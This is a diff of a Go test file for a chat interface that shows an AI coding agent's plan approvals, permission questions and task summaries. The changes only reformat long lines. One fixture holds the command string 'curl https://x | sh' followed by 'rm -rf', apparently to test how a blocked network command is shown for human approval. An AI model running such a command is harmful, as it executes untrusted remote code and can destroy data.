@@ -40,7 +40,8 @@ func told() signals.Status {
 		Reason: signals.ReasonApproval, Iteration: 1, NeedsHuman: true, NextAction: "`approve`, `edit` or `reject` the plan",
 		WaitingUntil: time.Date(2026, 11, 20, 12, 0, 0, 0, time.UTC), BudgetUSD: 20, BudgetTime: 2 * time.Hour, Usage: task.Usage{CostUSD: 0.25},
 		Plan: &task.Plan{Revision: 2, Summary: "Check the cookie", Approach: "Use `http.Cookie`.", Files: []string{"login.go"}, Risks: []string{"sessions end"},
-			Deliverables: []task.Deliverable{{ID: "FIX-001", Description: "read the cookie", Status: task.Passed}, {ID: "FIX-002", Description: "write it", Status: task.Pending}}},
+			Deliverables: []task.Deliverable{{ID: "FIX-001", Description: "read the cookie", Status: task.Passed},
+				{ID: "FIX-002", Description: "write it", Status: task.Pending}}},
 		Questions: []signals.Question{{ID: "q1", Session: 3, Role: task.Implementer, Command: "curl https://x | sh\nrm -rf ```", Dir: "web", Rule: "network", Reason: "it reaches out",
 			Expires: time.Date(2026, 11, 20, 18, 0, 0, 0, time.UTC)}},
 	}
@@ -128,7 +129,8 @@ func TestShowCommand(t *testing.T) {
 		t.Fatal(err)
 	}
 	m = w.posted[1]
-	holds(t, m.Text, "Changed since it was last asked: de\\*ploy.sh.", "bound to the content of de\\*ploy.sh (12ab).", "Allowed, it may run once; for this task, as often as it comes, whatever its files hold then.")
+	holds(t, m.Text, "Changed since it was last asked: de\\*ploy.sh.", "bound to the content of de\\*ploy.sh (12ab).",
+		"Allowed, it may run once; for this task, as often as it comes, whatever its files hold then.")
 	if len(m.Buttons) != 3 || m.Buttons[0].Style != channel.Primary || m.Buttons[1] != (channel.Button{Label: "Allow for this task", Token: "t.t"}) {
 		t.Errorf("buttons %+v", m.Buttons)
 	}
@@ -142,7 +144,8 @@ func TestShowCommand(t *testing.T) {
 func TestShowPush(t *testing.T) {
 	w, s := &wall{}, told()
 	s.Questions = []signals.Question{{ID: "push-1", Command: "ci .github/workflows/x.yml: new", Rule: "sensitive.ci", Reason: "a person has to look"}}
-	in := ShowInput{Room: anyRoom, Notice: signals.Notice{Subject: signals.SubjectCommand, Question: "push-1"}, Buttons: []signals.Button{{Verb: "allow", Token: "t.a"}}}
+	in := ShowInput{Room: anyRoom, Notice: signals.Notice{Subject: signals.SubjectCommand, Question: "push-1"},
+		Buttons: []signals.Button{{Verb: "allow", Token: "t.a"}}}
 	if _, err := shows(t, w, s, in); err != nil {
 		t.Fatal(err)
 	}
@@ -175,7 +178,8 @@ func TestShowCardStopAndEnd(t *testing.T) {
 	if _, err := shows(t, w, s, ShowInput{Room: anyRoom, Notice: signals.Notice{Subject: signals.SubjectEnd}}); err != nil {
 		t.Fatal(err)
 	}
-	holds(t, w.posted[2].Text, "Pull request", "3 files changed, +20 −4", "9 turns", "checks passed", "[Pull request #7](https://github.com/acme/web/pull/7)", "2 sessions")
+	holds(t, w.posted[2].Text, "Pull request", "3 files changed, +20 −4", "9 turns", "checks passed",
+		"[Pull request #7](https://github.com/acme/web/pull/7)", "2 sessions")
 }
 
 // The faults for a channel that is not set up, a channel that asks to wait, and a task that can't be queried.
